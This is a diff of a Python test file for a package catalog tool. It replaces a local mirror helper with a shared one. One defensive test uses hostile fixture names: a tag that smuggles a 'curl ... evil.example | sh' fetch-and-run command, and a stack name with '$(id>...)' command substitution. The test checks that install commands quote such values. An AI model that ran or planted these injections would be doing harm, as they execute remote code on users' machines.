@@ -15,14 +15,14 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from cachedex.catalog import Catalog, TagWriter
+from cachedex.catalog import Catalog
 from cachedex.errors import UnknownPackage, UnknownSpec
 from cachedex.publish.graph import SpecGraph
 from cachedex.publish.pages import package_page, package_pages, resolve, spec_page
 from cachedex.publish.render import to_json
 from cachedex.publish.site import write_site
 from cachedex.values import Dependency
-from tests.helpers import Demo, record, write_tag
+from tests.helpers import Demo, record, replace_mirror, write_tag
 
 
 def get(app: Any, path: str) -> httpx.Response:
@@ -98,20 +98,6 @@ def test_resolve_tells_hashes_from_package_names(small_catalog: Catalog) -> None
 # -- findings of the reliability review ------------------------------------------------------
 
 
-def _mirror(writer: TagWriter, stack: str, url: str, members: dict[str, bool]) -> None:
-    writer.replace_mirror(
-        stack,
-        url,
-        layout=3,
-        db_version=8,
-        checksum=stack,
-        etag=None,
-        last_modified=None,
-        fetched_at=0.0,
-        members=members,
-    )
-
-
 def test_sec3_install_commands_quote_hostile_names_and_urls(tmp_path: Path) -> None:
     # Names a remote tags_from file may hold: pasted unquoted, each runs its own command.
     tag, stack = "dev;curl -s evil.example|sh;#", "e4s$(id>~.pwned)"
@@ -121,8 +107,8 @@ def test_sec3_install_commands_quote_hostile_names_and_urls(tmp_path: Path) -> N
     with Catalog(path) as catalog:
         with catalog.writing_tag(tag) as writer:
             writer.add_specs([record(dag_hash, "zlib")], {})
-            _mirror(writer, "root", url, {dag_hash: True})
-            _mirror(writer, stack, url + "/s", {dag_hash: True})
+            replace_mirror(writer, "root", {dag_hash: True}, url=url, checksum="root")
+            replace_mirror(writer, stack, {dag_hash: True}, url=url + "/s", checksum=stack)
         page = spec_page(catalog, dag_hash)
         graph = SpecGraph(catalog)
         assert graph.page(graph.ids[dag_hash], page.node) == page
